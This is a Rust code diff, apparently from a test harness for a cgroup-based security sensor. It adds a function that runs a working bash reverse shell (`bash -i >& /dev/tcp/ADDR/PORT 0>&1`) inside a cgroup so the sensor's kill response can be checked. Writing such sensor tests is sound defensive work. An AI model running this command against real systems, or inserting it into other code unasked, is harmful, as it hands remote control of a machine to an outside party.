@@ -189,6 +189,22 @@ for port in sys.argv[2:]:
         print(port, "fail:", e, flush=True)
 "#;
 
+/// Runs the classic bash reverse shell (`bash -i >& /dev/tcp/ADDR/PORT 0>&1`) inside `cg`
+/// and waits for it; its exit status (a containing sensor kills it).
+pub fn reverse_shell(cg: &Cgroup, addr: &str, port: u16) -> std::process::ExitStatus {
+    Command::new("sh")
+        .arg("-c")
+        .arg(format!(
+            "echo $$ > {}/cgroup.procs && exec bash -c 'bash -i >& /dev/tcp/{addr}/{port} 0>&1'",
+            cg.arg()
+        ))
+        .stdin(Stdio::null())
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .status()
+        .expect("run the reverse shell")
+}
+
 pub fn probe(cg: &Cgroup, addr: &str, ports: &[u16]) -> Vec<(u16, String)> {
     let ports: Vec<String> = ports.iter().map(ToString::to_string).collect();
     let mut args = vec![addr];
